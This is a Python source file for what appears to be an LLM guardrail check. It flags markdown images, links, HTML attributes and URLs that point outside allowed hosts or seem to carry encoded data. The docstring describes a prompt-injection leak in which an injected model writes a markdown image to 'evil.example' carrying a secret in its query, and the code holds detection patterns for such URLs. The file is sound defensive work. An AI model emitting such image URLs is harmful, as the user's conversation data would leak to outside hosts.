"""``exfiltration``: links, images and URLs that could carry data to an outside host.

A model tricked by an injected instruction can leak the conversation by writing a markdown
image such as ``![](https://evil.example/p.png?d=<secret>)``: the chat UI fetches the
image as soon as it renders, so the data leaves without a click. This check finds every
URL in markdown images, links and reference definitions, HTML ``src``/``href``-style
attributes, CSS ``url()`` and (optionally) bare ``http(s)://`` / ``ftp://`` URLs, resolves
the host the way a browser would (userinfo, backslashes, IDNA, trailing dots, numeric IPv4
forms) and reports those whose host is not in ``allowed_hosts``. Auto-fetched elements
score higher than links, links higher than bare URLs, and any URL that looks like it is
carrying data (long or encoded query values, encoded path segments, many parameters,
template placeholders) scores near the top.
"""

from __future__ import annotations

__all__ = ["PATTERNS", "Exfiltration", "ExfiltrationParams"]

import html
import ipaddress
from bisect import bisect_right
from dataclasses import dataclass
from typing import Any, ClassVar
from urllib.parse import unquote

import re2
from pydantic import BaseModel, ConfigDict, Field, field_validator

from saferail.checks.base import Check, CheckInput, Finding
from saferail.checks.canonical import View
from saferail.checks.registry import register_check

# Each alternative of the scanner, in priority order, and the helper patterns. RE2 syntax
# (no lookarounds, no backreferences): matching is linear in the text length.
PATTERNS: dict[str, str] = {
    "markdown_image": (
        r"!\[[^\]]*\]\(\s*(?P<mdimg><[^>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)"
        r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
    ),
    "markdown_link": (
        r"\[[^\[\]]*\]\(\s*(?P<mdlink><[^>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)"
        r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
    ),
    "markdown_reference": (
        r"(?m:^[ \t]{0,3}\[(?P<refid>[^\]\n]+)\]:[ \t]*(?P<mdref><[^>\n]*>|\S+)[^\n]*)"
    ),
    "html_tag": (
        r"<(?P<tag>[A-Za-z][A-Za-z0-9:-]*)\s[^>]*?"
        r"(?i:src|srcset|href|data|action|poster|background|style)\s*=[^>]*>"
    ),
    "css_url": r"(?i:url)\(\s*(?P<css>\"[^\"\n]*\"|'[^'\n]*'|[^)\s]*)\s*\)",
    "css_import": r"@(?i:import)\s+(?P<cssimport>\"[^\"\n]*\"|'[^'\n]*')",
    "bare_url": r"(?P<bare>(?i:https?|ftp)://[^\s\x0b<>\"'`]+)",
    # helpers
    "html_attribute": (
        r"(?i:(?:^|[\s\"'/])(?P<name>src|srcset|href|xlink:href|data|action|formaction"
        r"|poster|background|style)\s*=\s*(?P<value>\"[^\"]*\"|'[^']*'|[^\s\"'>]+))"
    ),
    "markdown_image_reference": r"!\[(?P<alt>[^\]]*)\](?:\[(?P<ref>[^\]]*)\])?",
    "code": r"(?s:```.*?(?:```|\z))|(?s:~~~.*?(?:~~~|\z))|`[^`\n]+`",
    "placeholder": (
        r"\{\{?\s*[A-Za-z_][A-Za-z0-9_.\- ]*\}\}?|\$\{[^}]*\}|\$[A-Z_][A-Z0-9_]{2,}"
        r"|\[[A-Z_][A-Z0-9_ ]{2,}\]|<[A-Z_][A-Z0-9_ ]{2,}>|%[A-Z_]{3,}%"
    ),
}

_SCANNER_ALTERNATIVES = (
    "markdown_image",
    "markdown_link",
    "markdown_reference",
    "html_tag",
    "css_url",
    "css_import",
    "bare_url",
)
_MARKDOWN_ALTERNATIVES = frozenset({"markdown_image", "markdown_link", "markdown_reference"})

_ATTR_RE = re2.compile(PATTERNS["html_attribute"])
_IMAGE_REF_RE = re2.compile(PATTERNS["markdown_image_reference"])
_CODE_RE = re2.compile(PATTERNS["code"])
_PLACEHOLDER_RE = re2.compile(PATTERNS["placeholder"])
_CSS_URL_RE = re2.compile(PATTERNS["css_url"])

_GROUP_KIND = {
    "mdimg": "MARKDOWN_IMAGE",
    "mdlink": "MARKDOWN_LINK",
    "mdref": "MARKDOWN_REFERENCE",
    "css": "CSS_URL",
    "cssimport": "CSS_URL",
    "bare": "URL",
}

_FETCHED = frozenset({"MARKDOWN_IMAGE", "HTML_IMAGE", "HTML_EMBED", "CSS_URL"})
_BASE_SCORE = {
    "MARKDOWN_IMAGE": 0.9,
    "HTML_IMAGE": 0.9,
    "HTML_EMBED": 0.9,
    "CSS_URL": 0.9,
    "MARKDOWN_LINK": 0.7,
    "MARKDOWN_REFERENCE": 0.7,
    "HTML_LINK": 0.7,
    "URL": 0.5,
}
_DATA_SCORE = {"fetched": 0.97, "link": 0.95, "bare": 0.9}
_RAW_IP_BOOST = 0.1
_SCRIPT_URI_SCORE = 0.9
_DATA_URI_SCORE = 0.6
_MANY_PARAMS = 8
_MIN_B64 = 20
_MIN_HEX_QUERY = 24
_MIN_HEX_PATH = 48
_MAX_FINDINGS = 100
_MAX_URLS_PER_TAG = 32
_MAX_CODE_RANGES = 512
_MAX_HOST = 1024  # DNS names stop at 253; percent-encoding can triple that
_MAX_EXAMINE = 512

_IMAGE_TAGS = frozenset({"img", "image", "input", "picture", "feimage"})
_FETCH_ATTRS = frozenset({"src", "srcset", "poster", "background", "data"})
_HREF_ATTRS = frozenset({"href", "xlink:href", "action", "formaction"})
_HREF_FETCH_TAGS = frozenset({"link", "image", "use", "feimage", "script"})
_SPECIAL_SCHEMES = frozenset({"http", "https", "ftp", "ws", "wss"})
_SCRIPT_SCHEMES = frozenset({"javascript", "vbscript"})
_SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+-.")
_HEX = frozenset("0123456789abcdefABCDEF")
_DROP_B64 = str.maketrans(
    "", "", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=_-"
)
_TRAILING_PUNCT = ".,;:!?*_~'\""
_CLOSERS = {")": "(", "]": "[", "}": "{"}
_DECODED_KINDS = frozenset({"base64", "hex", "url_encoding"})
_C0_AND_SPACE = "".join(chr(i) for i in range(33))


class ExfiltrationParams(BaseModel):
    model_config = ConfigDict(extra="forbid")
    allowed_hosts: list[str] = Field(
        default_factory=list,
        description=(
            "Hosts URLs may point to. 'example.com' allows the host and its subdomains, "
            "'*.example.com' only its subdomains."
        ),
    )
    max_query_value_len: int = Field(
        32, description="A query value at least this long counts as data in the URL."
    )
    flag_bare_urls: bool = Field(True, description="Also report plain http(s)/ftp URLs.")
    check_markdown: bool = Field(
        True, description="Parse markdown images, links and reference definitions."
    )

    @field_validator("allowed_hosts")
    @classmethod
    def _hosts(cls, value: list[str]) -> list[str]:
        return [_normalize_entry(entry) for entry in value]

    @field_validator("max_query_value_len")
    @classmethod
    def _positive(cls, value: int) -> int:
        if value < 1:
            raise ValueError(f"max_query_value_len must be a positive integer, got {value}")
        return value


@dataclass(slots=True)
class _Target:
    """Where one URL points, as a browser would resolve it."""

    kind: str  # "network", "data" or "script"
    host: str = ""
    ip: bool = False
    path: str = ""
    query: str = ""
    url: str = ""


@dataclass(slots=True)
class _Verdict:
    score: float
    entity_type: str
    detail: str


@register_check
class Exfiltration(Check):
    """Markdown/HTML images, links and URLs pointing outside the allowed hosts."""

    name = "exfiltration"
    categories = ("exfiltration",)
    surfaces = frozenset({"input", "output", "retrieval", "tool_call"})
    cost = "cheap"
    description = __doc__ or ""
    tags = ("owasp:llm02:2025", "owasp:llm05:2025")
    Params: ClassVar[type[BaseModel]] = ExfiltrationParams

    def __init__(self, params: BaseModel | None = None) -> None:
        super().__init__(params)
        assert isinstance(self.params, ExfiltrationParams)
        p = self.params
        exact: set[str] = set()
        suffix: set[str] = set()
        for entry in p.allowed_hosts:
            if entry.startswith("*."):
                suffix.add(entry[2:])
            else:
                exact.add(entry)
                suffix.add(entry)
        self._exact = frozenset(exact)
        self._suffix = frozenset(suffix)
        self._max_len = p.max_query_value_len
        self._bare = p.flag_bare_urls
        names = [
            n for n in _SCANNER_ALTERNATIVES if p.check_markdown or n not in _MARKDOWN_ALTERNATIVES
        ]
        self._scanner = re2.compile("|".join(f"(?:{PATTERNS[n]})" for n in names))
        self._index: dict[str, int] = dict(self._scanner.groupindex)

    # -- scanning ---------------------------------------------------------------------

    def run(self, data: CheckInput) -> list[Finding]:
        findings: list[Finding] = []
        main = data.canonical.main
        if _may_hold_url(main.text):
            self._scan(main, data, findings, is_main=True)
        for view in data.canonical.decoded:
            if view.kind != "leetspeak" and _may_hold_url(view.text):
                self._scan(view, data, findings, is_main=False)
        return findings

    def _scan(self, view: View, data: CheckInput, out: list[Finding], *, is_main: bool) -> None:
        text = view.text
        # RE2 works on UTF-8: for ASCII text scanning the bytes skips the wrapper's
        # offset translation, and byte offsets are character offsets.
        subject = _re2_subject(text)
        code: list[tuple[int, int]] | None = None
        image_refs: set[str] | None = None
        for m in self._scanner.finditer(subject):
            if len(out) >= _MAX_FINDINGS:
                return
            start, end = m.span()
            group = self._group_of(m, text[start])
            if group == "bare":
                if not self._bare:
                    continue
                end = _trim_bare(text, start, end)
                url_span = (start, end)
            elif group == "tag":
                url_span = m.span(self._index["tag"])
            else:
                url_span = m.span(self._index[group])
            ostart, oend = view.to_original(start, end)
            if not is_main and any(_overlaps(f, ostart, oend) for f in out):
                continue
            in_code = False
            if is_main:
                if code is None:
                    code = _code_ranges(text) if ("`" in text or "~~~" in text) else []
                in_code = _inside(code, start)
            if group == "tag":
                tag = text[url_span[0] : url_span[1]].lower()
                verdict = self._html(text[start:end], tag, view, data, start, in_code, is_main)
            else:
                verdict = self._markup(group, url_span, view, data, in_code, is_main)
            if verdict is None:
                continue
            if group == "mdref" and verdict.entity_type == "MARKDOWN_REFERENCE":
                if image_refs is None:
                    image_refs = _image_refs(text)
                rs, re_ = m.span(self._index["refid"])
                if _label(text[rs:re_]) in image_refs:
                    verdict = self._rescore(verdict, "MARKDOWN_IMAGE")
            out.append(
                self.finding(
                    verdict.score,
                    ostart,
                    oend,
                    entity_type=verdict.entity_type,
                    detail=verdict.detail if is_main else f"{verdict.detail} ({view.kind})",
                )
            )

    def _group_of(self, m: Any, first: str) -> str:
        """Which scanner alternative matched, from the match's first character."""
        if first == "!":
            return "mdimg"
        if first == "<":
            return "tag"
        if first == "@":
            return "cssimport"
        if first in "uU":
            return "css"
        if first == "[" and "mdlink" in self._index and m.span(self._index["mdlink"])[0] >= 0:
            return "mdlink"
        if first in "[ \t":
            return "mdref"
        return "bare"

    def _markup(
        self,
        group: str,
        url_span: tuple[int, int],
        view: View,
        data: CheckInput,
        in_code: bool,
        is_main: bool,
    ) -> _Verdict | None:
        s, e = url_span
        raw = self._url_text(view, data, s, e, is_main)
        if group in ("css", "cssimport"):
            raw = _strip_quotes(raw)
        elif raw.startswith("<") and raw.endswith(">"):
            raw = raw[1:-1]
        kind = "URL" if in_code else _GROUP_KIND[group]
        ospan = view.to_original(s, e) if is_main else None
        return self._judge(raw, kind, data, ospan)

    def _html(
        self,
        tag_text: str,
        tag: str,
        view: View,
        data: CheckInput,
        tag_start: int,
        in_code: bool,
        is_main: bool,
    ) -> _Verdict | None:
        worst: _Verdict | None = None
        for count, a in enumerate(_ATTR_RE.finditer(_re2_subject(tag_text))):
            if count >= _MAX_URLS_PER_TAG:
                break
            attr = _group(tag_text, a, 1).lower()
            vs, ve = a.span(2)
            if tag_text[vs : vs + 1] in ("'", '"'):
                vs, ve = vs + 1, ve - 1
            value = self._url_text(view, data, tag_start + vs, tag_start + ve, is_main)
            if attr == "style":
                urls = []
                for c in _CSS_URL_RE.finditer(_re2_subject(value)):
                    urls.append((_strip_quotes(_group(value, c, 1)), "CSS_URL"))
                    if len(urls) >= _MAX_URLS_PER_TAG:
                        break
            else:
                if attr in _FETCH_ATTRS or (attr in _HREF_ATTRS and tag in _HREF_FETCH_TAGS):
                    kind = "HTML_IMAGE" if tag in _IMAGE_TAGS else "HTML_EMBED"
                else:
                    kind = "HTML_LINK"
                if attr == "srcset":
                    urls = [(c.split()[0], kind) for c in value.split(",") if c.strip()]
                else:
                    urls = [(value, kind)]
            for url, kind in urls[:_MAX_URLS_PER_TAG]:
                if in_code:
                    kind = "URL"
                ospan = view.to_original(tag_start + vs, tag_start + ve) if is_main else None
                v = self._judge(url, kind, data, ospan)
                if v is not None and (worst is None or v.score > worst.score):
                    worst = v
        return worst

    def _url_text(self, view: View, data: CheckInput, s: int, e: int, is_main: bool) -> str:
        """The URL as written: from the original text for the main view, so a homoglyph
        host is not mistaken for the Latin host it was folded to."""
        if is_main and e > s:
            os_, oe = view.to_original(s, e)
            return data.text[os_:oe]
        return view.text[s:e]

    # -- judging one URL --------------------------------------------------------------

    def _judge(
        self, url: str, kind: str, data: CheckInput, ospan: tuple[int, int] | None
    ) -> _Verdict | None:
        target = _target(url)
        if target is None:
            return None
        if target.kind == "script":
            if kind == "URL":
                return None
            return _Verdict(_SCRIPT_URI_SCORE, "SCRIPT_URI", f"{target.url[:40]} in {kind}")
        if target.kind == "data":
            if kind not in _FETCHED:
                return None
            return _Verdict(_DATA_URI_SCORE, "DATA_URI", f"data: URI in {kind}")
        if self._allowed(target):
            redirect = self._redirect(target)
            if redirect is None:
                return None
            return _Verdict(_BASE_SCORE[kind], kind, f"{kind} via {target.host} to {redirect}")
        reason = self._data_reason(target, data, ospan)
        detail = f"{kind} to {target.host or '(empty host)'}"
        if reason is not None:
            return self._score(kind, f"{detail}: {reason}", True)
        verdict = self._score(kind, detail, False)
        if target.ip:
            cap = max(verdict.score, 0.95)
            verdict.score = min(cap, verdict.score + _RAW_IP_BOOST)
            verdict.detail += " (raw IP address)"
        return verdict

    @staticmethod
    def _score(kind: str, detail: str, has_data: bool) -> _Verdict:
        if not has_data:
            return _Verdict(_BASE_SCORE[kind], kind, detail)
        tier = "fetched" if kind in _FETCHED else ("bare" if kind == "URL" else "link")
        return _Verdict(_DATA_SCORE[tier], "DATA_IN_URL", detail)

    @staticmethod
    def _rescore(verdict: _Verdict, kind: str) -> _Verdict:
        if verdict.entity_type == "DATA_IN_URL":
            return _Verdict(_DATA_SCORE["fetched"], "DATA_IN_URL", verdict.detail)
        return _Verdict(max(verdict.score, _BASE_SCORE[kind]), kind, verdict.detail)

    def _allowed(self, target: _Target) -> bool:
        host = target.host
        if not host:
            return False
        if host in self._exact:
            return True
        if target.ip:
            return False
        i = host.find(".")
        while i >= 0:
            if host[i + 1 :] in self._suffix:
                return True
            i = host.find(".", i + 1)
        return False

    def _redirect(self, target: _Target) -> str | None:
        """The unlisted host an allowed URL forwards to through a URL in its query."""
        query = unquote(target.query) if "%" in target.query else target.query
        i = query.find("://")
        while i >= 0:
            j = i
            while j > 0 and query[j - 1].isalpha():
                j -= 1
            inner = _target(query[j:].split("&", 1)[0])
            if inner is not None and inner.kind == "network" and not self._allowed(inner):
                return inner.host or "(empty host)"
            i = query.find("://", i + 3)
        return None

    def _data_reason(
        self, target: _Target, data: CheckInput, ospan: tuple[int, int] | None
    ) -> str | None:
        query = target.query
        if query:
            params = [p for p in query.replace(";", "&").split("&") if p]
            if len(params) >= _MANY_PARAMS:
                return f"{len(params)} query parameters"
            for p in params:
                key, eq, value = p.partition("=")
                v = value if eq else key
                if "%" in v:
                    v = unquote(v)
                if len(v) >= self._max_len:
                    return f"query value of {len(v)} characters"
                if _looks_encoded(v, _MIN_HEX_QUERY):
                    return "encoded query value"
        for seg in target.path.split("/"):
            if len(seg) >= _MIN_B64 and _looks_encoded(seg, _MIN_HEX_PATH):
                return "encoded path segment"
        url = target.url
        if "%" in url:
            url = unquote(url)
        if any(c in url for c in "{$[<%") and _PLACEHOLDER_RE.search(_re2_subject(url)) is not None:
            return "template placeholder"
        if ospan is None:
            return None  # the URL is itself inside a decoded payload
        s, e = ospan
        for view in data.canonical.decoded:
            span = view.span
            if view.kind in _DECODED_KINDS and span is not None and span[0] < e and s < span[1]:
                return f"{view.kind} payload"
        return None


# -- URL parsing ---------------------------------------------------------------------


def _target(url: str) -> _Target | None:
    """Resolve ``url`` like a browser; None for relative URLs and harmless schemes."""
    u = url
    if "&" in u:
        u = html.unescape(u)
    u = u.strip(_C0_AND_SPACE)
    if "\t" in u or "\n" in u or "\r" in u:
        u = u.replace("\t", "").replace("\n", "").replace("\r", "")
    if not u:
        return None
    scheme = ""
    rest = u
    colon = u.find(":")
    if colon > 0:
        cand = u[:colon]
        if (cand.isascii() and cand.isalpha()) or (
            cand[0].isascii() and cand[0].isalpha() and all(c in _SCHEME_CHARS for c in cand)
        ):
            scheme = cand.lower()
            rest = u[colon + 1 :]
    if scheme:
        if scheme == "data":
            return _Target("data", url=u)
        if scheme in _SCRIPT_SCHEMES:
            return _Target("script", url=u)
        if scheme in _SPECIAL_SCHEMES:
            rest = rest.lstrip("/\\")
        elif rest.startswith("//"):
            rest = rest[2:]
        else:
            return None
    elif rest[:2] in ("//", "\\\\", "/\\", "\\/"):
        rest = rest.lstrip("/\\")
    else:
        return None
    end = len(rest)
    for c in "/?#\\":
        i = rest.find(c)
        if 0 <= i < end:
            end = i
    authority, tail = rest[:end], rest[end:]
    hostport = authority.rpartition("@")[2]
    if hostport.startswith("["):
        close = hostport.find("]")
        raw_host = hostport[: close + 1] if close > 0 else hostport
    else:
        raw_host = hostport.partition(":")[0]
    host, ip = _normalize_host(raw_host)
    tail = tail.replace("\\", "/").partition("#")[0]
    path, _, query = tail.partition("?")
    return _Target("network", host, ip, path, query, u)


def _normalize_host(host: str) -> tuple[str, bool]:
    """Lowercase, percent-decode, IDNA-encode and strip trailing dots; (host, is_ip)."""
    if len(host) > _MAX_HOST:
        return host[:_MAX_HOST].lower(), False  # no valid host is this long: never allowed
    if "%" in host:
        host = unquote(host)
    host = host.strip()
    if host.startswith("[") and host.endswith("]"):
        try:
            return f"[{ipaddress.IPv6Address(host[1:-1]).compressed}]", True
        except ValueError:
            return host.lower(), True
    if not host.isascii():
        try:
            host = host.encode("idna").decode("ascii")
        except UnicodeError:
            return host.lower().rstrip(".\u3002\uff0e\uff61"), False
    host = host.lower().rstrip(".")
    ip = _ipv4(host)
    if ip is not None:
        return ip, True
    return host, False


def _ipv4(host: str) -> str | None:
    """The dotted-quad form of a host that is an IPv4 address in any WHATWG notation."""
    parts = host.split(".")
    last = parts[-1]
    if not last:
        return None
    if not (last.isdigit() and last.isascii()) and not (
        last.startswith("0x") and all(c in _HEX for c in last[2:])
    ):
        return None
    if len(parts) > 4:
        return host
    nums: list[int] = []
    for part in parts:
        n = _ipv4_number(part)
        if n is None:
            return host
        nums.append(n)
    if any(n > 255 for n in nums[:-1]) or nums[-1] >= 256 ** (5 - len(nums)):
        return host
    value = nums[-1]
    for i, n in enumerate(nums[:-1]):
        value += n << (8 * (3 - i))
    return str(ipaddress.IPv4Address(value))


def _ipv4_number(part: str) -> int | None:
    if not part or not part.isascii():
        return None
    try:
        if part[:2] in ("0x", "0X"):
            return int(part[2:] or "0", 16)
        if len(part) > 1 and part[0] == "0":
            return int(part[1:], 8)
        return int(part, 10)
    except ValueError:
        return None


def _normalize_entry(entry: str) -> str:
    raw = entry.strip()
    wildcard = raw.startswith("*.")
    base = raw[2:] if wildcard else raw
    bad = (
        not base
        or "*" in base
        or any(c in base for c in "/@?#\\")
        or any(c.isspace() for c in base)
        or (":" in base and not (base.startswith("[") and base.endswith("]")))
    )
    if bad:
        raise ValueError(
            f"allowed_hosts entry {entry!r} must be a bare host name such as "
            "'example.com' or '*.example.com' (no scheme, port, path or '@')"
        )
    host, _ = _normalize_host(base)
    if not host or ".." in host or host.startswith("."):
        raise ValueError(f"allowed_hosts entry {entry!r} is not a valid host name")
    return f"*.{host}" if wildcard else host


# -- helpers -------------------------------------------------------------------------


def _looks_encoded(s: str, min_hex: int) -> bool:
    """True for base64/base64url or hex strings (not words, slugs or identifiers)."""
    n = len(s)
    if n < _MIN_B64 or s.translate(_DROP_B64):
        return False
    s = s[:_MAX_EXAMINE]
    body = s.rstrip("=")
    if all(c in _HEX for c in body):
        return len(body) >= min_hex and any(c.isdigit() for c in body) and not body.isdigit()
    if "-" in body and body.count("-") * 8 > len(body):
        return False  # a slug: words joined by hyphens
    has_upper = any(c.isupper() for c in body)
    has_lower = any(c.islower() for c in body)
    has_digit = any(c.isdigit() for c in body)
    if not (has_upper and has_lower and (has_digit or s.endswith("="))):
        return False
    switches = 0
    prev = ""
    for c in body:
        cls = "u" if c.isupper() else "l" if c.islower() else "d" if c.isdigit() else "o"
        if cls != prev:
            switches += 1
            prev = cls
    return switches >= 0.4 * len(body)


def _re2_subject(text: str) -> str | bytes:
    """What to hand RE2 so that match offsets are character offsets of ``text``: ASCII as
    bytes, other text as str with lone surrogates (which UTF-8 cannot encode) replaced."""
    if text.isascii():
        return text.encode("ascii")
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return "".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in text)
    return text


def _may_hold_url(text: str) -> bool:
    """Cheap test (single-character searches run at memchr speed): a text without any of
    these characters holds no URL, markup link or CSS ``url()`` worth reporting."""
    return (
        "/" in text
        or "]" in text
        or "<" in text
        or "\\" in text
        or ("(" in text and ("rl(" in text or "RL(" in text))
    )


def _trim_bare(text: str, start: int, end: int) -> int:
    """Drop trailing punctuation and unbalanced closing brackets from a bare URL."""
    balance: dict[str, int] = {}
    while end > start:
        c = text[end - 1]
        if c in _TRAILING_PUNCT:
            end -= 1
        elif c in _CLOSERS:
            if c not in balance:
                seg = text[start:end]
                balance[c] = seg.count(c) - seg.count(_CLOSERS[c])
            if balance[c] <= 0:
                break
            balance[c] -= 1
            end -= 1
        else:
            break
    return end


def _code_ranges(text: str) -> list[tuple[int, int]]:
    ranges: list[tuple[int, int]] = []
    for m in _CODE_RE.finditer(_re2_subject(text)):
        ranges.append(m.span())
        if len(ranges) >= _MAX_CODE_RANGES:
            break  # past this, markup counts as rendered: the safe side
    return ranges


def _inside(ranges: list[tuple[int, int]], pos: int) -> bool:
    if not ranges:
        return False
    i = bisect_right(ranges, (pos, 1 << 62)) - 1
    return i >= 0 and ranges[i][0] <= pos < ranges[i][1]


def _image_refs(text: str) -> set[str]:
    refs: set[str] = set()
    for m in _IMAGE_REF_RE.finditer(_re2_subject(text)):
        ref = _group(text, m, 2)
        refs.add(_label(ref if ref else _group(text, m, 1)))
    return refs


def _group(text: str, m: Any, i: int) -> str:
    """Group ``i`` of a match found in ``_re2_subject(text)``, as a slice of ``text``."""
    s, e = m.span(i)
    return text[s:e] if s >= 0 else ""


def _label(label: str) -> str:
    return " ".join(label.casefold().split())


def _strip_quotes(value: str) -> str:
    value = value.strip()
    if len(value) >= 2 and value[0] in "\"'" and value[-1] == value[0]:
        return value[1:-1]
    return value


def _overlaps(f: Finding, start: int, end: int) -> bool:
    return f.start is not None and f.end is not None and f.start < end and start < f.end
